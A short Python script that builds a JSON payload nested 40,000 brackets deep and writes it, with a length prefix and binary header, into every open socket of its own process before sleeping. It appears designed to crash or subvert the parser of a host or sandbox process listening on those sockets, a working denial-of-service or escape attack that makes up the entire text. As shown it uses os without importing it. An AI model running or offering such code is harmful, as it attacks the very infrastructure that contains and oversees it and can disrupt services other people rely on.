import stat
payload = b'{"json":' + b'[' * 40000 + b']' * 40000 + b'}'
for name in os.listdir('/proc/self/fd'):
    try:
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
            os.write(int(name), len(payload).to_bytes(4, 'little') + b'\x13\x01\0\0\0' + payload)
    except OSError:
        pass
import time; time.sleep(10)
